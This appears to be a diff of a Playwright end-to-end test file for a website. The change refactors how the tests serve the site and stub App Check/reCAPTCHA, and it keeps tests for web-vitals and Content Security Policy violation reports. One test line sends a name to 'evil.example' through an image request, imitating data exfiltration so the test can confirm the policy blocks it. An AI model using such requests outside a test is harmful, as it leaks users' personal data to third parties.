@@ -1,7 +1,7 @@
 import { existsSync, readdirSync, readFileSync } from 'node:fs';
 import { SourceMap } from 'node:module';
 import { basename, join } from 'node:path';
-import type { Page } from '@playwright/test';
+import type { Page, Route } from '@playwright/test';
 import { type Report, reportSchema } from '../../src/shared/report';
 import { buildSite } from '../global-setup';
 import { unsignedToken } from '../support/emulators';
@@ -47,10 +47,21 @@ const GOOGLE: Readonly<Record<string, object>> = {
 /** The calls that need a token of App Check, one of each service. */
 const PROTECTED = ['accounts:signInWithPassword', 'documents:batchGet', 'completeSignUp'];
 
-const test = base.extend<{ reports: Report[] }>({
+const test = base.extend<{ site: undefined; reports: Report[] }>({
   baseURL: SITE,
   expectedConsole: /ERR_FAILED|status of 400|Content Security Policy directive: "img-src/,
-  /** Serves the site. Also the collector, and what it has received so far. */
+  /** Serves the site as Hosting does, with clean URLs. */
+  site: [
+    async ({ page }, use) => {
+      await page.route(`${SITE}/**`, async (route) => {
+        const file = join(FOLDER, new URL(route.request().url()).pathname);
+        await route.fulfill({ path: existsSync(file) ? file : `${file}.html` });
+      });
+      await use(undefined);
+    },
+    { auto: true },
+  ],
+  /** Serves the collector. Contains what it has received so far. */
   reports: [
     async ({ page }, use) => {
       const reports: Report[] = [];
@@ -59,11 +70,6 @@ const test = base.extend<{ reports: Report[] }>({
         expect(request.headers()['content-type']).toBe('application/json');
         reports.push(reportSchema.parse(request.postDataJSON()));
         await route.fulfill();
-      });
-      // As Hosting does, with clean URLs.
-      await page.route(`${SITE}/**`, async (route) => {
-        const file = join(FOLDER, new URL(route.request().url()).pathname);
-        await route.fulfill({ path: existsSync(file) ? file : `${file}.html` });
       });
       await use(reports);
     },
@@ -85,28 +91,30 @@ test.beforeAll(() => {
   });
 });
 
+const isBlocked = (route: Route) => route.abort();
+const isReady = (route: Route) => route.fulfill({ body: RECAPTCHA });
+const isNeverReady = (route: Route) => route.fulfill({ body: NEVER_READY });
+
 for (const { name, recaptcha, token } of [
-  { name: 'a token of App Check', recaptcha: RECAPTCHA, token: TOKEN },
-  { name: 'no token when App Check is blocked', recaptcha: 'blocked', token: 'none' },
-  { name: 'no token when App Check never becomes ready', recaptcha: NEVER_READY, token: 'none' },
+  { name: 'a token of App Check', recaptcha: isReady, token: TOKEN },
+  { name: 'no token when App Check is blocked', recaptcha: isBlocked, token: 'none' },
+  { name: 'no token when App Check never becomes ready', recaptcha: isNeverReady, token: 'none' },
 ]) {
   test(`calls have ${name}`, async ({ page }) => {
-    await page.route(RECAPTCHA_URL, (route) =>
-      recaptcha === 'blocked' ? route.abort() : route.fulfill({ body: recaptcha }),
-    );
+    await page.route(RECAPTCHA_URL, recaptcha);
     expect(await tokensOfSignUp(page)).toEqual([token, token, token]);
   });
 }
 
 /** Opens the page, and waits for its reporter, which the site imports after the load event. */
 const openPremium = (page: Page) => page.goto(paths.premium, { waitUntil: 'networkidle' });
-const ofPremium = { page: paths.premium, build: expect.stringMatching(/^[0-9a-f]{8}$/) };
+const premiumReport = { page: paths.premium, build: expect.stringMatching(/^[0-9a-f]{8}$/) };
 
 test('a page reports web vitals', async ({ page, reports }) => {
   await openPremium(page);
   // The first interaction finalizes LCP.
   await page.keyboard.press('Shift');
-  const vital = { ...ofPremium, kind: 'vital', what: 'LCP', value: expect.any(Number) };
+  const vital = { ...premiumReport, kind: 'vital', what: 'LCP', value: expect.any(Number) };
   await expect.poll(() => reports).toContainEqual(vital);
 });
 
@@ -115,7 +123,7 @@ test('a page reports violations of its policy without their URL', async ({ page,
   await page.evaluate(() => {
     new Image().src = 'https://evil.example/?name=jane';
   });
-  const violation = { ...ofPremium, kind: 'violation', what: 'img-src', code: 'other' };
+  const violation = { ...premiumReport, kind: 'violation', what: 'img-src', code: 'other' };
   await expect.poll(() => reports).toContainEqual(violation);
 });
 
